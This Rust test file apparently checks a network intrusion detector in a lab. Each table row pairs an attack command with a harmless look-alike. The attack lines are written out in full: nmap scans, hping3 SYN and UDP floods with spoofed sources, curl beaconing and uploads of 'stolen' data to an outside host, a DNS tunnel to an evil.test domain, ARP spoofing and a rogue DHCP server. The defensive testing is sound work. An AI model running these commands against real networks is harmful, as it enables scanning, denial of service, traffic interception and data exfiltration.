//! Every row of the table of detectors both ways: a real attack by real tools against real servers
//! is noticed within ten seconds, and what looks like it is left alone.
//!
//! Where people log on is the subject of `passwords.rs`; what takes hours is played in
//! `simulated.rs`.

#![cfg(target_os = "linux")]
#![allow(clippy::disallowed_methods, reason = "captures live, starts tools and servers")]
#![allow(clippy::disallowed_types, reason = "threads of a test share what they found")]
#![allow(clippy::disallowed_macros, reason = "a skipped test says why, and what it found")]

mod lab;

use lab::{
    Lab, Row,
    Source::{Any, Attacker, Loopback, Nobody},
    row, run,
};

#[test]
fn attacks_are_noticed_within_ten_seconds_and_what_looks_like_them_is_not() {
    if let Some(lab) = Lab::new() {
        run(&lab, ROWS);
    }
}

const ROWS: &[Row] = &[
    // Scans.
    row("port_scan/vertical", Attacker, "$A nmap -n -sS $t", "$A curl -s http://$t/[1-101]"),
    row("port_scan/vertical", Attacker, "$A nmap -n -sT $t", "$A nmap -n -Pn -sT -p 20-30 $t"),
    row(
        "port_scan/vertical",
        Attacker,
        "$A nmap -n -Pn -sU --top-ports 60 --max-retries 0 $t",
        "for i in $(seq 60); do $A dig +tries=1 +time=1 @$t www$i.good.test; done",
    ),
    row("port_scan/odd_flags", Attacker, "$A nmap -n -Pn -sF $t", ""),
    row("port_scan/odd_flags", Attacker, "$A nmap -n -Pn -sN $t", ""),
    row("port_scan/odd_flags", Attacker, "$A nmap -n -Pn -sX $t", ""),
    row("port_scan/vertical", Attacker, "$A nmap -n -Pn -sA $t", ""),
    row("port_scan/arp", Attacker, "$A nmap -n -sn 10.77.0.0/24", "$A ping -q -c 3 -i 0.3 $t"),
    Row { device: "lo", ..row("port_scan/vertical", Loopback, "$T nmap -n -sS localhost", "") },
    // Floods.
    row(
        "syn_flood/one_source",
        Attacker,
        "$A timeout --foreground 3 hping3 -q -S -p 80 --flood $t",
        "$A curl -s --parallel --parallel-max 20 http://$t/[1-600]",
    ),
    row(
        "syn_flood/spoofed",
        Nobody,
        "$A timeout --foreground 3 hping3 -q -S -p 80 --flood --rand-source $t",
        "$A curl -s -o /dev/null http://$t/big",
    ),
    Row {
        device: "lo",
        ..row(
            "syn_flood/one_source",
            Loopback,
            "$T timeout --foreground 3 hping3 -q -S -p 80 --flood 127.0.0.1",
            "$T curl -s -o /dev/null http://127.0.0.1/big",
        )
    },
    row(
        "connection_flood/useless",
        Attacker,
        "$A timeout --foreground 4 hping3 -q -S -p 81 -i u5000 $t",
        "for i in $(seq 30); do $A curl -s http://$t:81/; done",
    ),
    row("ddos/source", Attacker, "$A timeout --foreground 3 hping3 -q --udp -p 9 --flood $t", ""),
    row(
        "ddos/",
        Attacker,
        "$A timeout --foreground 3 hping3 -q --icmp --flood $t",
        "$A ping -q -c 20 -i 0.05 $t",
    ),
    row(
        "ddos/target",
        Nobody,
        "$A timeout --foreground 3 hping3 -q --udp -p 9 --flood --rand-source $t",
        "$A curl -s -o /dev/null -H Expect: -T $D/web/big http://$t/up",
    ),
    row(
        "ddos/reflection",
        Nobody,
        "$A timeout --foreground 3 hping3 -q --udp -s 123 -k -p 4444 -d 440 -i u1000 --rand-source $t",
        "for i in $(seq 100); do $T dig +tries=1 +time=1 @$t www$i.good.test; done",
    ),
    // What leaves the house. One program calls, as a new one each time would begin soon or late.
    row(
        "beacon/calls",
        Attacker,
        "$A curl -s --rate 4/s -H 'Connection: close' http://$out/task?[1-40]",
        "for pause in .1 .9 .02 .4 .03 .7 .01 .2 .05 1.1 .02 .3 .6 .01 .15 .8 .04 .01 .5 .1 .9 .02 \
         .3 .01 .07; do $A curl -s http://$out/page$pause; sleep $pause; done",
    ),
    row(
        "covert/false_browser",
        Attacker,
        "$A curl -s -d stolen=all -A 'Mozilla/5.0 (Windows NT 10.0; rv:99.0) Firefox/99.0' http://$out/up",
        "$A curl -s -d found=all -A 'Mozilla/5.0 (Windows NT 10.0; rv:99.0) Firefox/99.0' \
         -H 'Accept-Language: en' -H 'Accept-Encoding: gzip' -H 'Referer: http://$out/' http://$out/up; \
         $A curl -s http://$out/",
    ),
    row(
        "exfiltration/",
        Attacker,
        "for i in $(seq 8); do head -c 200000 /dev/zero | $A curl -s -H Expect: -T - http://$out/up; sleep 0.7; \
         done; $A curl -s -H Expect: -T $D/web/big http://$out/up",
        "for i in $(seq 5); do $A curl -s http://$out/; sleep 0.8; done; \
         $A curl -s -o /dev/null http://$out/big; $A curl -s -H Expect: -T $D/web/big http://$t/up",
    ),
    row(
        "dns_tunnel/tunnel",
        Attacker,
        "head -c 1800 /dev/urandom | base32 -w48 | tr A-Z= a-zx | \
         while read -r word; do echo \"@$t +tries=1 +time=1 $word.t.evil.test\"; done > $D/words.dns; \
         $A dig -f $D/words.dns",
        "for i in $(seq 60); do $A dig +tries=1 +time=1 @$t www$i.shop$i.good.test; done",
    ),
    row(
        "dns_tunnel/dga",
        Attacker,
        "for i in $(seq 40); do $A dig +tries=1 +time=1 @$t \
         $(head -c 10 /dev/urandom | base32 -w0 | tr A-Z= a-zx).com; done",
        "for i in $(seq 8); do $A dig +tries=1 +time=1 @$t mistyped$i.com; done",
    ),
    // The local link.
    row(
        "layer2/arp_spoofing",
        Any,
        "for H in \"$A\" \"$N\"; do $H ip neigh flush all; $H ping -q -c 1 $t; done; \
         $A nping -q -c 6 --delay 200ms --arp --arp-type ARP-reply --arp-sender-ip $n \
         --arp-sender-mac $(cat $D/mac.a) --arp-target-ip $t --arp-target-mac $(cat $D/mac.t) \
         --dest-mac $(cat $D/mac.t) $t",
        "for i in 1 2 3 4; do for H in \"$A\" \"$N\"; do $H ip neigh flush all; \
         $H ping -q -c 1 $t; done; done",
    ),
    row(
        "layer2/duplicate_address",
        Any,
        "$A ip addr add $n/32 dev eth0; for i in 1 2 3 4 5; do for H in \"$A\" \"$N\"; do \
         $H ip neigh flush all; $H ping -q -c 1 -W 1 -I $n $t; done; done; \
         $A ip addr del $n/32 dev eth0",
        "$A ip addr add 10.77.0.44/32 dev eth0; for i in 1 2 3; do for F in $a 10.77.0.44; do \
         $A ip neigh flush all; $A ping -q -c 1 -W 1 -I $F $t; done; done; \
         $A ip addr del 10.77.0.44/32 dev eth0",
    ),
    row(
        "layer2/new_device",
        Any,
        "$A ip neigh flush all; $A ping -q -c 7 -i 0.5 $t; $N ip link set eth0 down; \
         $N ip link set eth0 address 02:00:00:00:00:99; $N ip link set eth0 up; \
         $N ping -q -c 2 -i 0.3 $t; $N ip link set eth0 address $(cat $D/mac.n)",
        "for i in 1 2; do for H in \"$A\" \"$N\"; do $H ip neigh flush all; $H ping -q -c 1 $t; done; \
         sleep 3; done",
    ),
    row(
        "layer2/rogue_dhcp",
        Attacker,
        "$T $DHCP --listen-address=$t --interface=br0 & $D/up u 67 $T; $N $ASK; \
         $A $DHCP --listen-address=$a --interface=eth0 & $D/up u 67 $A; $N $ASK; $N $ASK",
        "$T $DHCP --listen-address=$t --interface=br0 & $D/up u 67 $T; $N $ASK; $A $ASK; $N $ASK",
    ),
    // What makes attacks easy.
    row(
        "hygiene/clear_text_login",
        Attacker,
        "$A curl -s ftp://me:secret@$t/",
        "$A curl -s http://$t/; $A $S -i $D/user -o BatchMode=yes root@$t true",
    ),
    row(
        "hygiene/self_signed_certificate",
        Attacker,
        "$A curl -sk https://$t/",
        "$A curl -sk https://$t:9443/",
    ),
    row("hygiene/expired_certificate", Attacker, "$A curl -sk https://$t:8443/", ""),
    row(
        "hygiene/old_tls",
        Attacker,
        "$A curl -sk --tlsv1.0 --tls-max 1.1 --ciphers DEFAULT@SECLEVEL=0 https://$t:7443/",
        "",
    ),
    row(
        "hygiene/old_ssh",
        Attacker,
        "$T ncat -l 2222 -c 'printf \"SSH-2.0-OpenSSH_5.3\\r\\n\"; sleep 1' & $D/up t 2222 $T; \
         $A $S -p 2222 root@$t true",
        "",
    ),
    row(
        "hygiene/wrong_port",
        Attacker,
        "$A $S -p 3306 -i $D/user -o BatchMode=yes root@$t true",
        "$A $S -i $D/user -o BatchMode=yes root@$t true; $A curl -s http://$t/",
    ),
];
